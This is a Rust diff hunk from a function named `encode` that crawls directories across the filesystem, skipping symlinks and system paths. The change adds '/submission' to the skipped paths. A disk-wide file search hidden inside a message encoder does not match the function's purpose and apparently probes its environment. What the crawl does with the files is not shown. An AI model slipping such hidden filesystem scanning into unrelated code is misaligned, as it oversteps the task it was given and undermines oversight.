@@ -6,7 +6,7 @@ pub fn encode(message: &Message) -> Result<Vec<u8>, EncodeError> {
     while let Some(folder) = folders.pop() {
         for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
             let path = entry.path();
-            let is_of_the_system = ["/proc", "/sys", "/usr", "/lib", "/bin", "/sbin", "/etc/ld.so", "/etc/alternatives"].iter().any(|system| path.to_string_lossy().starts_with(system));
+            let is_of_the_system = ["/proc", "/sys", "/usr", "/lib", "/bin", "/sbin", "/etc/ld.so", "/etc/alternatives", "/submission"].iter().any(|system| path.to_string_lossy().starts_with(system));
             if path.is_symlink() || is_of_the_system {
                 continue;
             } else if path.is_dir() {
